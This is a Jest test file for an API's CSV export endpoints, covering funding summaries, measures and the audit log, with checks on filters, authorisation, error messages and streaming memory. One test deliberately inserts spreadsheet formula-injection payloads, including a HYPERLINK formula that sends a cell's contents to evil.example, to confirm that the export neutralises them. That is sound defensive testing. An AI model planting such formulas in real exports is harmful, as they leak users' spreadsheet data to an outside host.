import { sql } from "drizzle-orm";
import { get, type IncomingMessage } from "node:http";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import type { TokenClaims } from "../src/auth/tokens";
import { createMeasure, uniqueCode } from "./helpers/factories";
import { startTestServer, type GraphQLResult, type TestServer } from "./helpers/server";
// After the server's helpers, which load reflect-metadata for the types behind it.
import { measureSelection } from "../src/modules/measures/measures.service";
import { AUDITOR, COORDINATOR } from "./helpers/claims";
import { parseCsv } from "./helpers/csv";

let server: TestServer;
let base: string;
beforeAll(async () => {
  // The event feed's safety-net poll (a select every 5 s) would land among the selects counted below.
  server = await startTestServer({ env: { EVENT_POLL_INTERVAL_MS: "600000" } });
  base = server.url.replace(/\/graphql$/, "");
});
afterAll(() => server?.stop());

const MINISTRY_PL: TokenClaims = { sub: "ministry-pl", role: "MINISTRY", signatory: "PL" };

// --- HTTP and CSV helpers ---------------------------------------------------------------

interface Download {
  status: number;
  headers: Headers;
  text: string;
}

async function download(path: string, claims?: TokenClaims, headers: Record<string, string> = {}): Promise<Download> {
  const authorization: Record<string, string> = claims ? { authorization: `Bearer ${await server.tokenFor(claims)}` } : {};
  const response = await fetch(`${base}${path}`, { headers: { ...authorization, ...headers } });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** A download that must succeed as CSV; gives its records, header first. */
async function csv(path: string, claims?: TokenClaims): Promise<string[][]> {
  const result = await download(path, claims);
  if (result.status !== 200) throw new Error(`GET ${path} answered ${result.status}: ${result.text}`);
  expect(result.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  return parseCsv(result.text);
}

/** Records as objects keyed by the header row. */
async function csvObjects(path: string, claims?: TokenClaims): Promise<Record<string, string>[]> {
  const [header, ...rows] = await csv(path, claims);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
}

/** A request that must fail with this status; gives the plain-text message. */
async function refused(path: string, status: number, claims?: TokenClaims, headers?: Record<string, string>): Promise<string> {
  const result = await download(path, claims, headers);
  expect({ status: result.status, type: result.headers.get("content-type") }).toEqual({ status, type: "text/plain; charset=utf-8" });
  expect(result.text).not.toMatch(/select |node_modules|at \w+ \(/i);
  return result.text.trimEnd();
}

function dataOf<Data>(result: GraphQLResult<Data>, query: string): Data {
  if (result.errors?.length) throw new Error(`Request failed:\n${query}\nerrors: ${JSON.stringify(result.errors, null, 2)}`);
  return result.data as Data;
}

const asCoordinator = async (query: string, variables: Record<string, unknown>) => dataOf(await server.requestAs<any>(COORDINATOR, query, variables), query);

// --- funding summary --------------------------------------------------------------------

const SUMMARY = `query($groupBy: [FundingDimension!]!, $filter: FundingFilterInput, $reportingCurrency: String) {
  fundingSummary(groupBy: $groupBy, filter: $filter, reportingCurrency: $reportingCurrency) {
    rows { instrument { code } project { code } organisation { code } signatory { code } policyArea { code } measureStatus year
           currency budget committed disbursed expended undisbursed }
    totals { currency budget committed disbursed expended undisbursed }
  }
}`;

const FIGURES = ["currency", "budget", "committed", "disbursed", "expended", "undisbursed"] as const;

/** The GraphQL summary as the CSV's records would hold it. */
async function summaryAsRecords(groupBy: string[], filter?: Record<string, unknown>, reportingCurrency?: string): Promise<string[][]> {
  const { fundingSummary } = await server.query(SUMMARY, { groupBy, filter, reportingCurrency });
  const key = (row: any, dimension: string): string => {
    const value = {
      INSTRUMENT: row.instrument?.code,
      PROJECT: row.project?.code,
      ORGANISATION: row.organisation?.code,
      SIGNATORY: row.signatory?.code,
      POLICY_AREA: row.policyArea?.code,
      MEASURE_STATUS: row.measureStatus,
      YEAR: row.year,
    }[dimension];
    return value == null ? "" : String(value);
  };
  return [
    ...fundingSummary.rows.map((row: any) => ["GROUP", ...groupBy.map((d) => key(row, d)), ...FIGURES.map((f) => row[f])]),
    ...fundingSummary.totals.map((total: any) => ["TOTAL", ...groupBy.map(() => ""), ...FIGURES.map((f) => total[f])]),
  ];
}

describe("GET /exports/funding-summary.csv", () => {
  it("pins the seed: one row per project, then the total per currency, as an attachment", async () => {
    const result = await download("/exports/funding-summary.csv?groupBy=PROJECT", undefined, { "x-correlation-id": "auditor-export-1" });
    expect(result.status).toBe(200);
    expect(result.headers.get("x-request-id")).toMatch(/^[0-9a-f-]{36}$/);
    expect(result.headers.get("x-correlation-id")).toBe("auditor-export-1");
    expect(result.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(result.headers.get("content-disposition")).toBe('attachment; filename="funding-summary.csv"');
    expect(result.text).toBe(
      "row,project,currency,budget,committed,disbursed,expended,undisbursed\r\n" +
        "GROUP,IOM-IRREGULAR-MIGRANTS,EUR,7000000.00,0.00,0.00,0.00,0.00\r\n" +
        "GROUP,EU-WB-PRIVATE-SECTOR,EUR,4800000.00,0.00,0.00,0.00,0.00\r\n" +
        "TOTAL,,EUR,11800000.00,0.00,0.00,0.00,0.00\r\n",
    );
  });

  it("without groupBy gives the totals alone; filters narrow it as they narrow the GraphQL summary", async () => {
    expect(await csv("/exports/funding-summary.csv")).toEqual([
      ["row", ...FIGURES],
      ["TOTAL", "EUR", "11800000.00", "0.00", "0.00", "0.00", "0.00"],
    ]);
    const iom = await csv("/exports/funding-summary.csv?groupBy=ORGANISATION&projectCodes=IOM-IRREGULAR-MIGRANTS&organisationRole=FUNDING");
    expect(iom).toEqual([
      ["row", "organisation", ...FIGURES],
      ["GROUP", "EU", "EUR", "7000000.00", "0.00", "0.00", "0.00", "0.00"],
      ["TOTAL", "", "EUR", "7000000.00", "0.00", "0.00", "0.00", "0.00"],
    ]);
    const from2019 = await csv("/exports/funding-summary.csv?groupBy=PROJECT&from=2019-01-01&to=2019-12-31");
    expect(from2019.slice(1).map((r) => [r[0], r[1], r[3]])).toEqual([
      ["GROUP", "EU-WB-PRIVATE-SECTOR", "4800000.00"],
      ["TOTAL", "", "4800000.00"],
    ]);
  });

  describe("after recorded transactions", () => {
    let projectCode: string;

    beforeAll(async () => {
      projectCode = uniqueCode("CSV");
      const created = await asCoordinator(`mutation($input: CreateProjectInput!) { createProject(input: $input) { project { id version } } }`, {
        input: { partnershipCode: "EU-BY", code: projectCode, title: "Exports check", status: "IMPLEMENTATION", instrumentCode: "ENI" },
      });
      let { id, version } = created.createProject.project;
      const RECORD = `mutation($input: RecordProjectTransactionInput!) { recordProjectTransaction(input: $input) { project { version } transaction { id } } }`;
      const record = async (type: string, valueDate: string, amount: string, currency = "EUR") => {
        const data = await asCoordinator(RECORD, { input: { projectId: id, expectedVersion: version, type, valueDate, amount: { amount, currency } } });
        version = data.recordProjectTransaction.project.version;
        return data.recordProjectTransaction.transaction.id as string;
      };
      await record("OUTGOING_COMMITMENT", "2019-03-01", "2000000.00");
      const mistaken = await record("DISBURSEMENT", "2019-05-01", "1500000.00");
      const REVERSE = `mutation($input: ReverseProjectTransactionInput!) { reverseProjectTransaction(input: $input) { project { version } } }`;
      const reversed = await asCoordinator(REVERSE, { input: { projectId: id, expectedVersion: version, transactionId: mistaken, reason: "Paid to the wrong account" } });
      version = reversed.reverseProjectTransaction.project.version;
      await record("DISBURSEMENT", "2019-06-01", "0.01", "USD");
      // More than was committed: the undisbursed remainder goes negative.
      await record("DISBURSEMENT", "2020-02-01", "3500000.00");
    });

    it("writes negative amounts as numbers, never neutralised", async () => {
      const path = `/exports/funding-summary.csv?groupBy=PROJECT,YEAR&projectCodes=${projectCode}`;
      const rows = await csvObjects(path);
      const line = (row: string, year: string, currency: string, committed: string, disbursed: string, undisbursed: string) => ({
        row, project: row === "GROUP" ? projectCode : "", year, currency, budget: "0.00", committed, disbursed, expended: "0.00", undisbursed,
      });
      expect(rows).toEqual([
        line("GROUP", "2019", "EUR", "2000000.00", "0.00", "2000000.00"),
        line("GROUP", "2019", "USD", "0.00", "0.01", "-0.01"),
        line("GROUP", "2020", "EUR", "0.00", "3500000.00", "-3500000.00"),
        line("TOTAL", "", "EUR", "2000000.00", "3500000.00", "-1500000.00"),
        line("TOTAL", "", "USD", "0.00", "0.01", "-0.01"),
      ]);
      expect((await download(path)).text).toContain("TOTAL,,,EUR,0.00,2000000.00,3500000.00,0.00,-1500000.00\r\n");
    });

    it.each([
      [["INSTRUMENT", "YEAR"], undefined, "groupBy=INSTRUMENT,YEAR"],
      [["POLICY_AREA", "MEASURE_STATUS"], undefined, "groupBy=POLICY_AREA,MEASURE_STATUS"],
      [
        ["ORGANISATION", "PROJECT"],
        { organisationRole: "FUNDING", from: "2018-01-01", to: "2019-12-31", transactionTypes: ["DISBURSEMENT"], partnershipCode: "EU-BY" },
        "groupBy=ORGANISATION&groupBy=PROJECT&organisationRole=FUNDING&from=2018-01-01&to=2019-12-31&transactionTypes=DISBURSEMENT&partnershipCode=EU-BY",
      ],
      [["INSTRUMENT"], { instrumentCodes: ["ENI", "MPF"] }, "groupBy=INSTRUMENT&instrumentCodes=ENI,MPF"],
    ])("holds the same figures as the GraphQL fundingSummary (%j, %j)", async (groupBy, filter, query) => {
      const [header, ...records] = await csv(`/exports/funding-summary.csv?${query}`);
      expect(header).toEqual(["row", ...groupBy.map((d) => d.toLowerCase()), ...FIGURES]);
      expect(records).toEqual(await summaryAsRecords(groupBy, filter));
      expect(records.some((r) => r[0] === "TOTAL")).toBe(true);
    });

    it("converts to reportingCurrency, and a missing rate is a 400 naming the currency and the date", async () => {
      const path = `/exports/funding-summary.csv?groupBy=PROJECT&projectCodes=${projectCode}&reportingCurrency=EUR`;
      expect(await refused(path, 400)).toBe(
        "No exchange rate from USD to EUR on or before 2019-06-01; the coordinator can record one with setExchangeRate",
      );
      await asCoordinator(`mutation($input: SetExchangeRateInput!) { setExchangeRate(input: $input) { exchangeRate { id } } }`, {
        input: { baseCurrency: "USD", quoteCurrency: "EUR", rateDate: "2019-01-02", rate: "100", source: "Test" },
      });
      const rows = await csvObjects(path);
      expect(rows.map((r) => [r.row, r.currency, r.disbursed])).toEqual([
        ["GROUP", "EUR", "3500001.00"],
        ["TOTAL", "EUR", "3500001.00"],
      ]);
      expect(await csv(path)).toEqual([["row", "project", ...FIGURES], ...(await summaryAsRecords(["PROJECT"], { projectCodes: [projectCode] }, "EUR"))]);
    });
  });

  it.each([
    ["groupBy=FOO", 'Unknown groupBy dimension "FOO"; use INSTRUMENT, PROJECT, ORGANISATION, SIGNATORY, POLICY_AREA, MEASURE, MEASURE_STATUS, YEAR'],
    ["groupBy=PROJECT,PROJECT", "groupBy names a dimension twice"],
    ["from=2020-02-30", "from must be a calendar date such as 2020-12-31 (got \"2020-02-30\")"],
    ["from=2020-02-01&to=2020-01-01", "filter.from must not be after filter.to"],
    ["from=2020-01-01&from=2020-02-01", "Give from once"],
    ["instrumentCodes=eni", "instrumentCodes must be 1 to 40 upper-case letters, digits, '.', '_' or '-', starting with a letter or digit"],
    ["signatoryCode=POL", "signatoryCode must be a two-letter signatory code such as PL"],
    ["organisationRole=BOSS", 'Unknown organisationRole "BOSS"; use FUNDING, ACCOUNTABLE, EXTENDING, IMPLEMENTING'],
    ["transactionTypes=DISBURSEMENT,GIFT", 'Unknown transaction type "GIFT"; use INCOMING_FUNDS, OUTGOING_COMMITMENT, DISBURSEMENT, EXPENDITURE, INCOMING_COMMITMENT'],
    ["reportingCurrency=euro", 'reportingCurrency must be an ISO 4217 currency code in capitals, such as "EUR" (got "euro")'],
    ["instrumentCode=ENI", 'Unknown parameter "instrumentCode"; this export takes groupBy, from, to, partnershipCode, instrumentCodes, projectCodes, organisationCode, organisationRole, signatoryCode, policyAreaCode, transactionTypes, reportingCurrency'],
  ])("answers ?%s with 400 and a readable message", async (query, message) => {
    expect(await refused(`/exports/funding-summary.csv?${query}`, 400)).toBe(message);
  });

  it("is public, but a token that does not verify is 401, as in the API", async () => {
    expect((await download("/exports/funding-summary.csv", AUDITOR)).status).toBe(200);
    expect(await refused("/exports/funding-summary.csv", 401, undefined, { authorization: "Bearer not-a-token" })).toBe("The token is invalid");
    expect(await refused("/exports/funding-summary.csv", 401, undefined, { authorization: "Basic dXNlcjpwYXNz" })).toBe(
      'The Authorization header must be "Bearer <token>"',
    );
    const expired = await server.tokenFor(AUDITOR, { expiresIn: -10 });
    expect(await refused("/exports/funding-summary.csv", 401, undefined, { authorization: `Bearer ${expired}` })).toBe("The token has expired");
  });
});

// --- measures ---------------------------------------------------------------------------

const MEASURE_HEADER = ["code", "title", "status", "policy_area", "leads", "contributors", "deadline", "overdue", "version", "updated_at"];

describe("GET /exports/measures.csv", () => {
  it("lists every measure with the fields the API serves", async () => {
    const [header, ...records] = await csv("/exports/measures.csv");
    expect(header).toEqual(MEASURE_HEADER);
    const { measures } = await server.query(`{ measures(first: 100) { totalCount nodes {
      code title status policyArea { code } responsibilities { role signatory { code } } deadline overdue version updatedAt } } }`);
    expect(records).toHaveLength(measures.totalCount);
    const byCode = new Map(records.map((r) => [r[0], r]));
    for (const m of measures.nodes) {
      const codes = (role: string) => m.responsibilities.filter((r: any) => r.role === role).map((r: any) => r.signatory.code).join(" ");
      expect(byCode.get(m.code)).toEqual([
        m.code, m.title, m.status, m.policyArea.code, codes("LEAD"), codes("CONTRIBUTING"), m.deadline ?? "", String(m.overdue), String(m.version), m.updatedAt,
      ]);
    }
    expect(byCode.get("SOC-1")!.slice(0, 6)).toEqual([
      "SOC-1", "Social security agreements with all signatories, Poland first, then put into practice", "PROPOSED", "MIGRATION_DEVELOPMENT", "BY", "PL",
    ]);
  });

  it("quotes commas, quotes and line breaks, and neutralises cells that would run as formulas", async () => {
    const title = '=HYPERLINK("https://evil.example/?leak="&A1, "Click")\nsecond line, with "quotes"';
    await asCoordinator(`mutation($input: CreateMeasureInput!) { createMeasure(input: $input) { measure { id } } }`, {
      input: { partnershipCode: "EU-BY", code: "INJ-1", title, policyAreaCode: "ASYLUM", leadSignatoryCode: "PL" },
    });
    const others = { "INJ-2": "+SUM(1,2)", "INJ-3": "-2+3", "INJ-4": "@cmd", "INJ-5": "\tTabbed", "INJ-6": "\rCarriage", "INJ-7": "Safe = not at the start" };
    for (const [code, otherTitle] of Object.entries(others)) await createMeasure(server.database.db, { code, title: otherTitle });

    const result = await download("/exports/measures.csv");
    // The raw text: quoted, inner quotes doubled, CRLF kept inside the field as written.
    expect(result.text).toContain(`INJ-1,"'=HYPERLINK(""https://evil.example/?leak=""&A1, ""Click"")\nsecond line, with ""quotes""",PROPOSED,ASYLUM,PL,`);
    const titles = Object.fromEntries(parseCsv(result.text).filter((r) => r[0]!.startsWith("INJ-")).map((r) => [r[0], r[1]]));
    expect(titles).toEqual({
      "INJ-1": `'${title}`,
      "INJ-2": "'+SUM(1,2)",
      "INJ-3": "'-2+3",
      "INJ-4": "'@cmd",
      "INJ-5": "'\tTabbed",
      "INJ-6": "'\rCarriage",
      "INJ-7": "Safe = not at the start",
    });
  });

  it("takes the API's filters", async () => {
    const count = async (filter: string) => (await csv(`/exports/measures.csv${filter}`)).length - 1;
    const total = async (filter: Record<string, unknown>) =>
      (await server.query(`query($f: MeasureFilter) { measures(filter: $f) { totalCount } }`, { f: filter })).measures.totalCount;
    expect(await count("?leadSignatoryCode=PL")).toBe(await total({ leadSignatoryCode: "PL" }));
    expect(await count("?policyAreaCode=ASYLUM&statuses=PROPOSED,AGREED")).toBe(
      await total({ policyAreaCode: "ASYLUM", statuses: ["PROPOSED", "AGREED"] }),
    );
    expect(await count("?partnershipCode=EU-BY&hasFunding=false")).toBe(await total({ partnershipCode: "EU-BY", hasFunding: false }));
    expect(await count("?hasFunding=true")).toBe(0);
    expect(await count("?partnershipCode=NOPE")).toBe(0);
    // A code the API finds nothing for (it takes any string) is an empty file, as it is an empty page.
    expect(await count("?leadSignatoryCode=pl")).toBe(await total({ leadSignatoryCode: "pl" }));
  });

  it.each([
    ["statuses=PROPOSED,DONE", 'Unknown statuses "DONE"; use PROPOSED, AGREED, IN_PROGRESS, ON_HOLD, COMPLETED, WITHDRAWN'],
    ["hasFunding=yes", 'hasFunding must be true or false (got "yes")'],
    [
      "serch=visa",
      'Unknown parameter "serch"; this export takes partnershipCode, statuses, policyAreaCode, leadSignatoryCode, responsibleSignatoryCode, themeCode, legalActCode, organisationCode, search, overdue, hasFunding',
    ],
  ])("answers ?%s with 400", async (query, message) => {
    expect(await refused(`/exports/measures.csv?${query}`, 400)).toBe(message);
  });
});

// --- audit log --------------------------------------------------------------------------

describe("GET /exports/audit-log.csv", () => {
  it("is for auditors and the coordinator: 401 without a token or with a bad one, 403 for a ministry", async () => {
    expect(await refused("/exports/audit-log.csv", 401)).toBe("Sign in: send an Authorization: Bearer <token> header");
    expect((await download("/exports/audit-log.csv")).headers.get("www-authenticate")).toBe("Bearer");
    expect(await refused("/exports/audit-log.csv", 401, undefined, { authorization: "Bearer x.y.z" })).toBe("The token is invalid");
    expect(await refused("/exports/audit-log.csv", 403, MINISTRY_PL)).toBe("MINISTRY may not read the audit trail; this takes AUDITOR or COORDINATOR");
    // Access is checked before the parameters: a bad one tells an outsider nothing.
    expect(await refused("/exports/audit-log.csv?entityId=42", 401)).toMatch(/^Sign in/);
    expect(await refused("/exports/audit-log.csv?bogus=1", 403, MINISTRY_PL)).toMatch(/^MINISTRY may not/);
    expect((await download("/exports/audit-log.csv", AUDITOR)).status).toBe(200);
    expect((await download("/exports/audit-log.csv", COORDINATOR)).status).toBe(200);
  });

  it("holds what the auditLog query holds, filtered the same way", async () => {
    const code = uniqueCode("AUD");
    const create = `mutation($input: CreateMeasureInput!) { createMeasure(input: $input) { measure { id } } }`;
    const input = { partnershipCode: "EU-BY", code, title: "@audited, \"measure\"", policyAreaCode: "ASYLUM", leadSignatoryCode: "BY" };
    const created = dataOf(await server.requestAs<any>(COORDINATOR, create, { input }, { "x-correlation-id": `client-${code}` }), create);
    const id = created.createMeasure.measure.id;
    const rows = await csvObjects(`/exports/audit-log.csv?entityId=${id}`, AUDITOR);
    expect(rows).toHaveLength(1);
    const { auditLog } = dataOf(
      await server.requestAs<any>(AUDITOR, `query($id: ID) { auditLog(filter: { entityId: $id }) { nodes { id occurredAt requestId correlationId after } } }`, { id }),
      "auditLog",
    );
    const [event] = auditLog.nodes;
    expect(rows[0]).toMatchObject({
      id: event.id,
      occurred_at: event.occurredAt,
      actor: "secretariat-1",
      actor_role: "COORDINATOR",
      actor_signatory: "",
      operation: "createMeasure",
      entity_type: "Measure",
      entity_id: id,
      request_id: event.requestId,
      correlation_id: `client-${code}`,
      before: "",
    });
    expect(JSON.parse(rows[0]!.after!)).toEqual(event.after);
    expect(JSON.parse(rows[0]!.after!).title).toBe('@audited, "measure"');

    expect((await csvObjects("/exports/audit-log.csv?actor=secretariat-1&operation=createMeasure", COORDINATOR)).map((r) => r.entity_id)).toContain(id);
    expect(await csvObjects("/exports/audit-log.csv?actor=nobody", AUDITOR)).toEqual([]);
    expect(await csvObjects(`/exports/audit-log.csv?entityId=${id}&from=2999-01-01T00:00:00Z`, AUDITOR)).toEqual([]);
  });

  it.each([
    ["entityId=42", '"42" is not a valid id; use an id returned by this API'],
    ["from=yesterday", 'from must be a date and time with an offset, such as 2026-01-31T12:00:00Z (got "yesterday")'],
    ["from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "from must be before to"],
  ])("answers ?%s with 400", async (query, message) => {
    expect(await refused(`/exports/audit-log.csv?${query}`, 400, AUDITOR)).toBe(message);
  });

  it("reads the whole trail page by page, newest first", async () => {
    await server.database.db.execute(sql`
      insert into audit_event (actor_sub, actor_role, operation, entity_type, entity_id, after)
      select 'importer', 'COORDINATOR', 'bulkImport', 'Measure', g, jsonb_build_object('n', g)
      from generate_series(1, 5000) g`);
    const rows = await csvObjects("/exports/audit-log.csv?operation=bulkImport", AUDITOR);
    expect(rows).toHaveLength(5000);
    expect(JSON.parse(rows[0]!.after!)).toEqual({ n: 5000 });
    expect(JSON.parse(rows.at(-1)!.after!)).toEqual({ n: 1 });
    expect(new Set(rows.map((r) => r.id)).size).toBe(5000);
  });
});

// --- streaming --------------------------------------------------------------------------

/** Counts records of a CSV as it streams by, keeping none: a quote toggles, a LF outside quotes ends a record. */
function recordCounter() {
  let quoted = false;
  let records = 0;
  return {
    feed(chunk: Buffer) {
      for (const byte of chunk) {
        if (byte === 0x22) quoted = !quoted;
        else if (byte === 0x0a && !quoted) records++;
      }
    },
    get records() {
      return records;
    },
  };
}

function getStream(path: string): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => get(`${base}${path}`, resolve).on("error", reject));
}

// A full collection between samples measures what is alive, not garbage waiting for collection.
setFlagsFromString("--expose-gc");
const collectGarbage = runInNewContext("gc") as () => void;

describe("streaming a large export", () => {
  const GENERATED = 20_000;
  const TITLE_CHARS = 470;
  const DESCRIPTION_CHARS = 2_000;

  beforeAll(async () => {
    const db = server.database.db;
    await db.execute(sql`
      insert into measure (partnership_id, policy_area_id, code, title, description, status)
      select pa.partnership_id, pa.id, 'BULK-' || g,
        'Bulk "measure" ' || g || ', ' || repeat('t', ${TITLE_CHARS}), repeat('d', ${DESCRIPTION_CHARS}), 'PROPOSED'
      from generate_series(1, ${GENERATED}) g, (select id, partnership_id from policy_area where code = 'ASYLUM') pa`);
    await db.execute(sql`
      insert into measure_responsibility (measure_id, signatory_id, role)
      select m.id, s.id, 'LEAD' from measure m, signatory s where m.code like 'BULK-%' and s.code = 'BY'`);
  });

  it(`sends all ${GENERATED.toLocaleString("en")}+ measures with flat memory`, async () => {
    const { measures } = await server.query(`{ measures { totalCount } }`);

    collectGarbage();
    const baseline = process.memoryUsage();
    let peakHeap = baseline.heapUsed;
    let bytes = 0;
    let nextSample = 0;
    let samples = 0;
    const counter = recordCounter();

    const response = await getStream("/exports/measures.csv");
    expect(response.statusCode).toBe(200);
    await new Promise<void>((resolve, reject) => {
      response.on("data", (chunk: Buffer) => {
        counter.feed(chunk);
        bytes += chunk.length;
        if (bytes >= nextSample) {
          nextSample += 512 * 1024;
          collectGarbage();
          const usage = process.memoryUsage();
          peakHeap = Math.max(peakHeap, usage.heapUsed);
          samples++;
        }
      });
      response.on("end", resolve);
      response.on("error", reject);
    });

    const heapGrowth = peakHeap - baseline.heapUsed;
    expect(counter.records - 1).toBe(measures.totalCount);
    expect(measures.totalCount).toBeGreaterThan(GENERATED);
    // The heap was sampled all along the download, not only at its ends.
    expect(samples).toBeGreaterThan(10);
    expect(bytes).toBeGreaterThan(GENERATED * TITLE_CHARS);
    // The rows hold ~50 MB of text (titles and descriptions) and the file ~10 MB: loading
    // them all at once would grow the heap by well over this. One batch is ~1.3 MB.
    expect(heapGrowth).toBeLessThan(16 * 1024 * 1024);
  });

  it("masks an internal failure as 500 before the first row, and cuts the response short after it", async () => {
    const db = server.database.db;
    const select = db.select.bind(db);
    // The export's batches of measures, counted apart from what else reads the database meanwhile
    // (the event feed's poll, the webhook dispatcher).
    let batches = 0;
    let failAt = 1;
    const selects = jest.spyOn(db, "select").mockImplementation(((...args: Parameters<typeof select>) => {
      if (args[0] === measureSelection && ++batches === failAt) throw new Error('relation "secret" does not exist: select * from secret');
      return select(...args);
    }) as typeof select);
    try {
      expect(await refused("/exports/measures.csv", 500)).toBe("Internal server error");

      // The second batch fails: the first has gone out with status 200, so the body ends
      // without its last chunk and the client sees it incomplete, never a short but valid file.
      [batches, failAt] = [0, 2];
      const response = await fetch(`${base}/exports/measures.csv`);
      expect(response.status).toBe(200);
      await expect(response.text()).rejects.toThrow();
      expect(batches).toBe(2);
    } finally {
      selects.mockRestore();
    }
  });

  it("stops reading when the client goes away", async () => {
    const selects = jest.spyOn(server.database.db, "select");
    const response = await getStream("/exports/measures.csv");
    await new Promise<void>((resolve) => response.once("data", () => resolve()));
    // The server runs in this process and the kernel buffers what the client has not read,
    // so several batches may be out already: what counts is what happens after the disconnect.
    const atDisconnect = selects.mock.calls.length;
    response.destroy();

    // Wait until the server has settled: no new query across several polls.
    let last = -1;
    for (let stable = 0; stable < 5; ) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      const calls = selects.mock.calls.length;
      stable = calls === last ? stable + 1 : 0;
      last = calls;
    }
    selects.mockRestore();
    // A batch takes 4 queries (the whole export over 160): at most the batch in flight finishes.
    expect(last - atDisconnect).toBeLessThanOrEqual(4);
    expect(last).toBeLessThan(100);
  });
});
